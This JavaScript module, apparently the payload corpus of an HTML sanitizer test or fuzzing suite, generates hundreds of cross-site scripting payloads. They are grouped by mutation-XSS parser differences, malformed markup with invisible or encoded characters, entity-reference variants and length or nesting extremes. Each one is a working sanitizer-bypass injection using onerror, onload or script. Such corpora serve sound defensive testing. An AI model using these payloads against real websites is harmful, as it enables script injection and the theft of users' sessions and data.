// Payloads by how they are read: parsers that disagree, markup that is not whole, references, the longest and deepest.

import { cross, decimal, each, LONGEST } from "./rules.mjs";

// ── parsers that disagree ──────────────────────────────────────────────────

const RAW = ["title", "textarea", "style", "xmp", "noembed", "noframes", "noscript", "iframe", "script"];
/** Where foreign content begins or ends, so that what follows is read in another way the second time. */
const BORDERS = ["<svg></p>", "<svg><p>", "<math></br>", "<math><mtext><table><mglyph>", "<math><mtext></mtext>", "<svg><desc><table><a>", "<svg><foreignObject><math>", "<table><svg><title>", "<form><math><mi></form><form>", "<select><svg>"];
export const mutation = [
  ...cross(BORDERS, ["style", "title", "xmp", "noscript"], (border, tag, { js }) => `${border}<${tag}><i title="</${tag}><img src=x onerror=${js}>">`),
  ...each(BORDERS, (border, { js }) => `${border}<style><!--</style><i title="--&gt;&lt;img src=x onerror=${js}&gt;">`),
  ...each(RAW, (tag, { js }) => `<${tag}><a title="</${tag}><img src=x onerror=${js}>">`),
  ...each(RAW, (tag, { js }) => `<${tag}><!--</${tag}><img src=x onerror=${js}>-->`),
  ...each(RAW, (tag, { img }) => `<svg><${tag}><g title="</${tag}>${img}">`),
  ...each(["title", "desc", "foreignObject"], (tag, { img }) => `<svg><${tag}>${img}`),
  ...each(["mi", "mo", "mn", "ms", "mtext"], (tag, { img }) => `<math><${tag}>${img}`),
  ...each(["b", "p", "div", "h1", "table", "ul", "span"], (tag, { img }) => `<svg><style></${tag}><${tag}>${img}`),
  ({ img }) => `<math><annotation-xml encoding=text/html>${img}`,
  ({ img }) => `<table><tr><td><table>${img}</table></td></tr>${img}</table>`,
  ({ img }) => `<table><caption><svg><desc>${img}</table>`,
  ({ img }) => `<select><option>${img}</select>${img}`,
  ({ img }) => `<select><svg></select>${img}`,
  ({ img }) => `<select><template><style></select>${img}</style>`,
  ({ img }) => `<form><div></form><form>${img}</div></form>`,
  ({ img }) => `<a><a><b></a>${img}<i></b></i>`,
  ({ img }) => `<button><button>${img}</button>`,
  ({ img }) => `<nobr><nobr>${img}`,
  ({ img }) => `<frameset></frameset>${img}`,
  ({ img }) => `<head><title></head>x</title>${img}`,
  ({ img }) => `</html></body>${img}`,
  ({ img }) => `</p>${img}</br>`,
  ({ img }) => `<!-->${img}-->`,
  ({ img }) => `<!--->${img}-->`,
  ({ img }) => `<!--x--!>${img}-->`,
  ({ img }) => `<!-- -- --!>${img}`,
  ({ img }) => `<!--<!--> -->${img}`,
  ({ img }) => `<!x>${img}`,
  ({ img }) => `<!>${img}`,
  ({ img }) => `<?x ">${img}"?>`,
  ({ img }) => `<?>${img}`,
  ({ img }) => `<?xml version="1.0"?>${img}`,
  ({ img }) => `</ x>${img}`,
  ({ img }) => `</!>${img}`,
  ({ img }) => `<%x>${img}%>`,
  ({ img }) => `<![CDATA[>${img}]]>`,
  ({ img }) => `<![CDATA[x]]>${img}`,
  ({ img }) => `<svg><![CDATA[</svg>${img}]]></svg>${img}`,
  ({ img }) => `<svg><![CDATA[><title>${img}]]>`,
  ({ img }) => `<svg><desc><![CDATA[</desc>${img}]]>`,
  ({ img }) => `<!DOCTYPE html [<!ENTITY x "">]>${img}`,
  ({ img }) => `<![if IE]>${img}<![endif]>`,
  ({ img }) => `<!--[if IE]>${img}<![endif]-->`,
  ({ img }) => `<plaintext>${img}`,
  ({ img }) => `<listing>&lt;img${img.slice(4, -1)}&gt;</listing>`,
  ({ img }) => `<xmp>${img}</xmp>`,
  ({ js }) => `<img alt="\`\`onerror=${js}//" src=x>`,
  ({ js }) => `<x alt="&lt;img src=x onerror=${js}&gt;"></x>`,
];

// ── markup that is not whole ───────────────────────────────────────────────

const SEPARATORS = ["\t", "\n", "\f", "\r", "/", " / ", "//", "\n\t\r\f "];
const UNSEEN = ["\0", "\u0001", "\u001F", "\u007F", "\u00AD", "\u200B", "\u200D", "\u200E", "\u2060", "\u202E", "\u2066", "\uFEFF", "\uFE0F", "\u{E0041}", "\u180E", "\u3164"];
export const broken = [
  ...each(SEPARATORS, (separator, { js }) => `<img${separator}src=x${separator}onerror=${js}${separator.replace(/^\/.*/, " ")}>`),
  ...each(UNSEEN, (char, { js }) => `<im${char}g src=x onerror=${js}>`),
  ...each(UNSEEN, (char, { js }) => `<${char}svg onload=${js}>`),
  ...each(UNSEEN.slice(0, 6), (char, { js }) => `<img src=x on${char}error=${js}>`),
  ...each(["\u00A0", "\u1680", "\u2003", "\u2028", "\u3000", "\u0085", "\v"], (space, { js }) => `<img${space}src=x onerror=${js}>`),
  ({ img }) => `\uFEFF${img}`,
  ({ img }) => `<<<${img}`,
  ({ img }) => `<>${img}`,
  ({ img }) => `1<2 ${img}`,
  ({ img }) => `<a <b>${img}`,
  ({ js }) => `<img src=\`x\` onerror=${js}>`,
  ({ js }) => `<img src=x onerror="${js}"'>'>`,
  ({ js }) => `<img """ '' src=x onerror=${js}>`,
  ({ js }) => `<img src=x onerror=${js} <b>`,
  ({ js }) => `<svg onload=${js}//>`,
  ({ js }) => `<img src=x onerror=${js}//<b>`,
  ({ js }) => `<img src=x:x onerror\n=\n"${js}"\n>`,
  ({ js }) => `<img src='x'onerror='${js}'>`,
  ({ js }) => `<img src=x onerror =${js}>`,
  ({ js }) => `<IMG SRC=x ONERROR=${js}>`,
  ({ js }) => `<İmg src=x><img src=x onerror=${js}>`,
  ({ js }) => `<svg\fonload=${js}\f/>`,
  ({ js }) => `<x:y onclick=${js}>x</x:y>`,
  ({ js }) => `<x.y onclick=${js}>x`,
  ({ js }) => `<x_y onclick=${js}>x`,
  ({ js }) => `<x@y onclick=${js}>x`,
  ({ js }) => `<xé onclick=${js}>x`,
  ({ js }) => `<h👍 onclick=${js}>x`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt><scrip<b>t>`,
  ({ js }) => `<scr<b>ipt>${js}</scr</b>ipt>`,
  ({ js }) => `<scr<!-- -->ipt>${js}</scr<!-- -->ipt>`,
  ({ js }) => `<im<b>g src=x onerror=${js}>`,
  ({ js }) => `<<b>img src=x onerror=${js}>`,
  ({ js }) => `<<!-- -->img src=x onerror=${js}>`,
  ({ js }) => `<<script></script>img src=x onerror=${js}>`,
  ({ js }) => `<<?x?>svg onload=${js}>`,
  ({ js }) => `&<b>lt;img src=x onerror=${js}&<b>gt;`,
  ({ js }) => `< img src=x onerror=${js}>`,
  ({ js }) => `<\nsvg onload=${js}>`,
  ({ js }) => `＜img src=x onerror=${js}＞`,
  ({ js }) => `﹤img src=x onerror=${js}﹥`,
  ({ js }) => `‹img src=x onerror=${js}›`,
  ({ js }) => `+ADw-img src=x onerror=${js}+AD4-`,
  ({ js }) => `\u00C0\u00BCimg src=x onerror=${js}\u00C0\u00BE`,
  ({ js }) => `%3Cimg src=x onerror=${js}%3E`,
  ({ js }) => `%253Cimg src=x onerror=${js}%253E`,
  ({ js }) => `%u003Cimg src=x onerror=${js}%u003E`,
  ({ js }) => `\\u003Cimg src=x onerror=${js}\\u003E`,
  ({ js }) => `\\x3Cimg src=x onerror=${js}\\x3E`,
  ({ js }) => `\\74img src=x onerror=${js}\\76`,
];

// ── references ─────────────────────────────────────────────────────────────

const LESS = ["&lt;", "&lt", "&LT;", "&LT", "&#60;", "&#60", "&#060;", "&#0000060;", "&#00000000060;", "&#x3c;", "&#x3C", "&#X3c;", "&#x0003c;", "&amp;lt;", "&amp;amp;lt;", "&amp;#60;", "&amp;#x3c;", "&#38;lt;", "&#x26;lt;", "&#38;#60;", "&ampLt;", "&lt\u200B;", "&\u0000lt;", "&#6\u200B0;", "&l<b>t;"];
export const references = [
  ...each(LESS, (less, { js }) => `${less}img src=x onerror=${js}>`),
  ...each(LESS, (less, { js }) => `${less}script>${js}${less}/script>`),
  ({ js }) => `&lt;img src=x onerror=${js}&gt;`,
  ({ js }) => `${decimal("<svg onload=")}${js}${decimal(">")}`,
  ({ js }) => `&quot;&gt;&lt;svg onload=${js}&gt;`,
  ({ js }) => `&#8238;&#0;&lt;img src=x onerror=${js}&gt;&#8203;`,
];

// ── at the limits ──────────────────────────────────────────────────────────

/** `make(filler)` filled so that the whole has exactly `length` characters. */
const filled = (length, make, char = "a") => make(char.repeat(Math.max(0, length - [...make("")].length)));
const nested = (tag, depth, inner) => `<${tag}>`.repeat(depth) + inner;
export const limits = [
  ({ img }) => filled(LONGEST, (a) => `${a}${img}`),
  ({ img }) => filled(LONGEST, (a) => `${img}${a}`),
  ({ js }) => filled(LONGEST, (a) => `<img src=${a} onerror=${js}>`),
  ({ js }) => filled(LONGEST, (a) => `<img src=x ${a}=1 onerror=${js}>`),
  ({ js }) => filled(LONGEST, (a) => `<img src=x alt="${a}" onerror=${js}>`, ">"),
  ({ js }) => filled(LONGEST, (a) => `<img src=x alt="${a}" onerror=${js}>`, "<"),
  ({ js }) => filled(LONGEST, (a) => `<x${a} onclick=${js}>x`),
  ({ js }) => filled(LONGEST, (a) => `<svg${a}onload=${js}>`, "/"),
  ({ img }) => filled(LONGEST, (a) => `<!--${a}-->${img}`, "-"),
  ({ img }) => filled(LONGEST, (a) => `${a}${img}`, "<"),
  ({ img }) => filled(LONGEST, (a) => `${a}${img}`, "&"),
  ({ img }) => filled(LONGEST, (a) => `${a}${img}`, "👍"),
  ({ img }) => filled(LONGEST, (a) => `<b ${a}>${img}`, "\u0301"),
  ({ img }) => nested("b", 200, img),
  ({ img }) => nested("svg", 100, img),
  ({ img }) => nested("table", 100, img),
  ({ img }) => nested("form", 120, img),
  ({ img }) => nested("math", 60, nested("mtext", 60, img)),
  ({ img }) => nested("template", 90, img),
  ({ img }) => `${"<a href=x>".repeat(80)}${img}`,
  ({ img }) => `${"<b/>".repeat(200)}${img}`,
  ...each([1, 2, 5, 9, 14, 22], (cut, { js }) => `<img src=x onerror=${js} alt="long enough to be cut off">`.slice(0, -cut)),
  ...each([1, 3, 7], (cut, { js }) => filled(LONGEST + cut, (a) => `${a}<svg onload=${js}>`).slice(0, LONGEST)),
];
